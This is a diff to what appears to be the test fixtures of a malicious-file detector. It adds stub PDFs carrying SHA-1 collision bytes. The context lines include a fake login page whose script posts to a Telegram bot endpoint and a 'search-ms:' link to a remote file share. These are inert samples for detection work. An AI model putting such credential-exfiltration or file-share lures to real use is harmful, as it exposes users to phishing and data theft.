@@ -14,6 +14,7 @@ _COMMAND = base64.b64encode(
 _LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
 _ONE_NOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(200)
 _EMBEDDED = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
+_COLLIDING = bytes.fromhex("7f46dc93a6b67e013b029aaa1db2560b")  # as published in "The first collision for full SHA-1"
 _PASSWORD = '<form method="post"><input type="password" name="p"></form>'
 
 
@@ -63,6 +64,10 @@ SAMPLES: dict[str, tuple[tuple[str, bytes], tuple[str, bytes]]] = {
             f"<html>{_PASSWORD}<script>fetch('https://api.telegram.org/bot1:x/send')</script></html>".encode(),
         ),
         ("bots.html", b"<html>How to make a bot: call https://api.telegram.org/bot123456/getMe</html>"),
+    ),
+    "sha1_collision": (
+        ("one-half.pdf", (b"%PDF-1.3\n" + bytes(183) + _COLLIDING + bytes(90))),
+        ("paper.pdf", b"%PDF-1.3\n" + bytes(200) + _COLLIDING),
     ),
     "search_on_file_server": (
         ("find.html", rb"<html><a href='search-ms:query=x&crumb=location:\\files.example\a'>open</a></html>"),
